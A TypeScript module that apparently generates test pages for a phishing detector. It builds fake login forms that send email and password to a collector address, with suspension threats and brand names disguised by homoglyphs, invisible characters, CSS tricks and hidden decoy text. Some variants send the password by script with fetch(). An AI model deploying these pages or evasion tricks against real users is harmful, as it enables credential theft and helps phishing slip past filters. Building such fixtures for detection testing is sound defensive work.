import { COLLECTOR, HONEST_TEXT, pageOf, type Tricks } from './trick.ts';

const FIELDS = `<form method="post" action="${COLLECTOR}"><input type="email" name="email"><input type="password" name="pass"><button>Log in</button></form>`;
/** The page with its brand in another spelling. */
const spelled = (brand: string, spelling: string, head = '') =>
  pageOf(
    `${spelling}: Log in to your account`,
    `<h1>Log in to ${spelling}</h1><p>Your ${spelling} account will be suspended within 24 hours unless you confirm your identity.</p>${FIELDS.replace('BRAND', brand)}`,
    head,
  );
const shifted = (text: string, start: number) =>
  [...text]
    .map((one) => (/[a-z]/i.test(one) ? String.fromCodePoint(start + (one.toLowerCase().charCodeAt(0) - 97)) : one))
    .join('');
const CYRILLIC: Readonly<Record<string, string>> = { a: 'а', c: 'с', e: 'е', i: 'і', o: 'о', p: 'р', x: 'х', y: 'у' };
const NOISE = HONEST_TEXT.repeat(160);

/** The words of the page, as a person reads them and a machine does not. */
export const WORDS: Tricks = {
  'brand with joiners of no width': ({ brand }) => ({ '/': spelled(brand, [...brand].join('\u2060')) }),
  'brand with hyphens that do not show': ({ brand }) => ({ '/': spelled(brand, [...brand].join('&shy;')) }),
  'brand in Cyrillic letters': ({ brand }) => ({
    '/': spelled(
      brand,
      brand.replaceAll(/[aceiopxy]/g, (one) => CYRILLIC[one] ?? one),
    ),
  }),
  'brand in bold mathematical letters': ({ brand }) => ({ '/': spelled(brand, shifted(brand, 0x1d41a)) }),
  'brand in letters of full width': ({ brand }) => ({ '/': spelled(brand, shifted(brand, 0xff41)) }),
  'brand in an element for each letter': ({ brand }) => ({
    '/': spelled(brand, [...brand].map((one) => `<b>${one}</b>`).join('')).replace(/<title>.*?<\/title>/, ''),
  }),
  'brand by a style': ({ brand, page }) => ({
    '/': page
      .replaceAll(brand, '<i class="b"></i>')
      .replace(/<title>.*?<\/title>/, `<title>Log in</title><style>.b::before{content:"${brand}"}</style>`),
  }),
  'brand from right to left': ({ brand, page }) => ({
    '/': page.replaceAll(brand, `&#8238;${[...brand].reverse().join('')}&#8236;`),
  }),
  'noise in every word, hidden by a class': ({ brand }) => ({
    '/': spelled(brand, [...brand].join('<s class="n">choir</s>'), '<style>.n{display:none}</style>').replace(
      /<title>.*?<\/title>/,
      '<title>Log in</title>',
    ),
  }),
  'noise of no size': ({ brand }) => ({
    '/': spelled(brand, [...brand].join('<s class="n">xq</s>'), '<style>.n{font-size:0}</style>').replace(
      /<title>.*?<\/title>/,
      '<title>Log in</title>',
    ),
  }),
  'honest words first, hidden by a class': ({ body, title }) => ({
    '/': pageOf(title, `<div class="n">${NOISE}</div>${body}`, '<style>.n{display:none}</style>'),
  }),
  'honest words first, out of the window': ({ body, title }) => ({
    '/': pageOf(title, `<div id="n">${NOISE}</div>${body}`, '<style>#n{position:absolute;left:-9999px}</style>'),
  }),
  'honest words first, clipped': ({ body, title }) => ({
    '/': pageOf(title, `<p class="n">${NOISE}</p>${body}`, '<style>.n{height:0;overflow:hidden}</style>'),
  }),
  'honest words behind': ({ body, title }) => ({ '/': pageOf(title, `${body}<footer>${NOISE}</footer>`) }),
};

/** The fields of the page. */
export const FIELDS_OF_THE_PAGE: Tricks = {
  'editable element with masked characters': ({ body }) => ({
    '/': pageOf(
      'Log in',
      body
        .replace(/<input type="password"[^>]*>/, '<span contenteditable id="secret" class="m">...</span>')
        .replace('</form>', '</form><style>.m{-webkit-text-security:disc}</style>'),
    ),
  }),
  'field of text with masked characters': ({ page }) => ({
    '/': page.replace('type="password" name="pass"', 'type="text" name="secret" style="-webkit-text-security:square"'),
  }),
  'field that becomes one of a password': ({ page }) => ({
    '/': page
      .replace('type="password"', 'id="p"')
      .replace('</body>', '<script>document.getElementById("p").type="password"</script></body>'),
  }),
  'field that becomes one of a password by an attribute': ({ page }) => ({
    '/': page
      .replace('type="password"', '')
      .replace('</body>', '<script>document.forms[0].pass.setAttribute("type","password")</script></body>'),
  }),
  'fields without a form, sent by script': ({ body, title }) => ({
    '/': pageOf(
      title,
      `${body.replace(/<form[^>]*>/, '').replace('</form>', '')}<script>document.querySelector("button").onclick=()=>fetch("${COLLECTOR}",{method:"POST",body:document.querySelector("[name=pass]").value})</script>`,
    ),
  }),
  'form that gets its action by script': ({ page }) => ({
    '/': page
      .replace(` action="${COLLECTOR}"`, '')
      .replace('</body>', `<script>document.forms[0].action="${COLLECTOR}"</script></body>`),
  }),
  'dialog opened by script': ({ body, title }) => ({
    '/': pageOf(title, `${HONEST_TEXT}<dialog id="d">${body}</dialog><script>d.showModal()</script>`),
  }),
  'form behind a step, shown by script': ({ body, title }) => ({
    '/': pageOf(
      title,
      `<div id="s" style="display:none">${body}</div><script>setTimeout(()=>{s.style.display=""},200)</script>`,
    ),
  }),
};
